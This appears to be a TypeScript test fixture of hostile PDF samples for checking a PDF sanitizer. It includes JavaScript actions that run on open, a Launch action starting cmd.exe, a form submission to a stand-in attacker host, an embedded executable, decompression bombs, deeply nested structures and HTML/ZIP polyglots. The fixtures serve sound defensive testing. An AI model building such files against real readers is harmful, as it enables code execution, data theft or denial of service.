import { makePdf, streamOf } from './make-pdf.ts';

/** A PDF that does something, or costs much. */
export interface HostilePdf {
  readonly what: string;
  readonly make: () => Buffer;
  /** The code of its refusal, and words of the sentence; or what is named as left out. */
  readonly answer: readonly [code: string, words: string] | { readonly removed: readonly string[] };
  /** What a served file must not contain. */
  readonly marks?: readonly string[];
}

const SCRIPT = 'app.alert("from a PDF")';
const damaged = ['UNREADABLE_DOCUMENT', 'it is damaged or incomplete'] as const;
const actions = 'Actions that start programs, open files or send data';

export const HOSTILE_PDFS: readonly HostilePdf[] = [
  {
    what: 'a script that runs when it is opened, one by name, and one in an annotation',
    make: () =>
      makePdf({
        catalog: `/OpenAction << /S /JavaScript /JS (${SCRIPT}) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${SCRIPT}) >>] >> >>`,
        page: `/AA << /O << /S /JavaScript /JS (${SCRIPT}) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (${SCRIPT}) >> >>]`,
      }),
    answer: { removed: ['Scripts', actions] },
    marks: ['JavaScript', 'app.alert'],
  },
  {
    what: 'the start of a program, the sending of data, and an address of a file',
    make: () =>
      makePdf({
        catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>',
        page: `/Annots [
          << /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>
          << /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///C:/Users/amina/list.doc) >> >>
          << /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://sanir.example/) /Next << /S /Launch /F (cmd.exe) >> >> >>]`,
      }),
    answer: { removed: [actions] },
    marks: ['cmd.exe', 'Launch', 'evil.example', 'amina'],
  },
  {
    what: 'a program inside it, in the list of files and on a page',
    make: () =>
      makePdf({
        catalog:
          '/Names << /EmbeddedFiles << /Names [(a.exe) 100 0 R] >> >> /AF [100 0 R] /Collection << /Type /Collection >>',
        page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 100 0 R >>]',
        objects: {
          100: '<< /Type /Filespec /F (a.exe) /EF << /F 101 0 R >> >>',
          101: '<< /Type /EmbeddedFile /Length 12 >>\nstream\nMZ-a-program\nendstream',
        },
      }),
    answer: { removed: ['Files inside the PDF'] },
    marks: ['a.exe', 'MZ-a-program'],
  },
  {
    what: 'encryption',
    make: () =>
      makePdf({
        trailer: '/Encrypt 100 0 R /ID [<00> <00>]',
        objects: {
          100: `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'00'.repeat(32)}> /U <${'00'.repeat(32)}> >>`,
        },
      }),
    answer: ['UNREADABLE_DOCUMENT', 'is encrypted'],
  },
  {
    what: 'half of a file',
    make: () => {
      const whole = makePdf({ pages: 9 });
      return whole.subarray(0, whole.indexOf('/Kids'));
    },
    answer: damaged,
  },
  {
    what: 'a list of places and a stream of objects that unpack to gigabytes',
    make: () => {
      const unpacked = Buffer.alloc(70 * 2 ** 20, ' ');
      unpacked.write('102 0 (unpacked)');
      const list = '/Type /XRef /W [1 0 0] /Size 2000000000 /Root 1 0 R';
      return makePdf({
        catalog: '/Outlines 102 0 R',
        objects: { 100: streamOf(unpacked, '/Type /ObjStm /N 1 /First 6'), 101: streamOf('1', list) },
      });
    },
    answer: { removed: [] },
    marks: ['(unpacked)'],
  },
  {
    what: 'a number of pages that no tree has',
    make: () =>
      Buffer.from(makePdf().toString('latin1').replace('/Count 1 ', '/Count 2000000000 '), 'latin1'),
    answer: { removed: [] },
    marks: ['2000000000'],
  },
  {
    what: 'pages that contain each other, twice on each level',
    make: () => {
      const levels = Array.from({ length: 40 }, (_, index) => [
        100 + index,
        `<< /Type /Pages /Count 9 /Kids [${101 + index} 0 R ${101 + index} 0 R] >>`,
      ]);
      const tree = Object.fromEntries([...levels, [140, '<< /Type /Page >>']]);
      const text = makePdf({ objects: tree }).toString('latin1').replace('/Kids [10 0 R]', '/Kids [100 0 R]');
      return Buffer.from(text, 'latin1');
    },
    answer: ['UNREADABLE_DOCUMENT', 'has more than 5,000 pages'],
  },
  {
    what: 'a page of HTML that begins like a PDF',
    make: () => Buffer.from('%PDF-1.7\n<!doctype html><script>alert(1)</script>'),
    answer: damaged,
  },
  {
    what: 'a PDF that is also a page of HTML and a zip',
    make: () =>
      Buffer.concat([
        Buffer.from('<!doctype html><script>alert(document.domain)</script><!--\n'),
        makePdf(),
        Buffer.from('PK\x03\x04 payload --><script>alert(2)</script>'),
      ]),
    answer: { removed: [] },
    marks: ['<script', 'PK\x03\x04', '<!doctype'],
  },
  {
    what: 'a hundred thousand lists in each other',
    make: () =>
      makePdf({
        catalog: '/Deep 100 0 R',
        objects: { 100: `${'['.repeat(100_000)}${']'.repeat(100_000)}` },
      }),
    answer: damaged,
  },
  {
    what: 'a form with a script, and one in XFA',
    make: () =>
      makePdf({
        catalog: `/AcroForm << /Fields [100 0 R] /XFA (xdp) >>`,
        page: '/Annots [100 0 R]',
        objects: {
          100: `<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K << /S /JavaScript /JS (${SCRIPT}) >> >> >>`,
        },
      }),
    answer: ['UNREADABLE_DOCUMENT', 'has fields to fill in, or a signature'],
  },
];
